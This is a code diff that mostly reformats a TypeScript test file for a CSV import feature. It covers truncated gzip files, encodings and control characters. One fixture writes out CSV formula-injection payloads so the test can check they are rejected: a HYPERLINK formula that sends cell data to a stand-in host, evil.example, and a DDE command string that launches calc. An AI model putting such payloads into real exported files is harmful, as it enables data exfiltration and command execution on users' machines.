@@ -4,9 +4,9 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { DatabaseHandle } from '../../src/db/engine.ts';
 import { ImportFileError, parseEncoding } from '../../src/imports/csv-source.ts';
 import { importOppositionList } from '../../src/opposition/opposition.import.ts';
-import { captureLogger } from '../helpers/silent-logger.ts';
 import { createTestDatabase } from '../helpers/database.ts';
 import { csv, tempFolder } from '../helpers/files.ts';
+import { captureLogger } from '../helpers/silent-logger.ts';
 import { CONTACTS_CSV, importFile, PRODUCTS_CSV, tableCounts } from './import.fixtures.ts';
 
 let database: DatabaseHandle;
@@ -62,7 +62,10 @@ describe('a truncated or corrupt .csv.gz ends the import with the line reached, 
     const failure = await importOppositionList(
       { database, logger: captureLogger().logger, now: new Date('2026-06-01T12:00:00Z'), defaultPhoneCountry: 'FR' },
       { name: 'robinson', channel: 'email', file },
-    ).then(() => new Error('the import succeeded'), (error: unknown) => error);
+    ).then(
+      () => new Error('the import succeeded'),
+      (error: unknown) => error,
+    );
     expect((failure as Error).message).toMatch(/the gzip data is truncated or corrupt after line \d+ \(unexpected end of file\)/);
     const { rows } = await database.pool.query('SELECT count(*)::int AS n FROM opposition_entries');
     expect(rows).toEqual([{ n: 0 }]);
@@ -93,7 +96,9 @@ describe('text that is not what it claims: encodings, separators, control charac
     for (let index = 0; index < 30_000; index += 1) lines.push(`U${index},Hélène Ærø ✓,2024-01-02`);
     const report = await importFile(database, 'contacts', files.write('utf8.csv', csv(...lines)));
     expect(report).toMatchObject({ status: 'committed', inserted: 30_000 });
-    const { rows } = await database.pool.query(`SELECT DISTINCT p.first_name FROM contacts c JOIN contact_personal_data p ON p.contact_id = c.id WHERE c.external_id LIKE 'U%'`);
+    const { rows } = await database.pool.query(
+      `SELECT DISTINCT p.first_name FROM contacts c JOIN contact_personal_data p ON p.contact_id = c.id WHERE c.external_id LIKE 'U%'`,
+    );
     expect(rows).toEqual([{ first_name: 'Hélène Ærø ✓' }]);
   });
 
@@ -124,14 +129,17 @@ describe('text that is not what it claims: encodings, separators, control charac
     const report = await importFile(
       database,
       'contacts',
-      files.write('controls.csv', csv(
-        'external_id,first_name,created_at',
-        'K1,Anne,2024-01-02',
-        'K\u00012,Anne,2024-01-02',
-        '"K\t3",Anne,2024-01-02',
-        'K4,"An\u001bne",2024-01-02',
-        'K5,"Anne\tMarie",2024-01-02',
-      )),
+      files.write(
+        'controls.csv',
+        csv(
+          'external_id,first_name,created_at',
+          'K1,Anne,2024-01-02',
+          'K\u00012,Anne,2024-01-02',
+          '"K\t3",Anne,2024-01-02',
+          'K4,"An\u001bne",2024-01-02',
+          'K5,"Anne\tMarie",2024-01-02',
+        ),
+      ),
     );
     expect(report.status).toBe('rejected');
     expect(report.rejects).toEqual([
@@ -167,14 +175,17 @@ describe('rejects files', () => {
     const report = await importFile(
       database,
       'contacts',
-      files.write('formulas.csv', csv(
-        'external_id,email,created_at',
-        'F1,f1@example.com,2024-01-02',
-        '"=HYPERLINK(""http://evil.example/?x=""&A1)",not-an-email,2024-01-02',
-        'F3,@SUM(1+1),2024-01-02',
-        'F4,+cmd|\' /C calc\'!A0,2024-01-02',
-        '-5,-2+3,2024-01-02',
-      )),
+      files.write(
+        'formulas.csv',
+        csv(
+          'external_id,email,created_at',
+          'F1,f1@example.com,2024-01-02',
+          '"=HYPERLINK(""http://evil.example/?x=""&A1)",not-an-email,2024-01-02',
+          'F3,@SUM(1+1),2024-01-02',
+          "F4,+cmd|' /C calc'!A0,2024-01-02",
+          '-5,-2+3,2024-01-02',
+        ),
+      ),
       { skipInvalid: true, rejectsFile },
     );
     expect(report).toMatchObject({ status: 'committed', rejected: 4 });
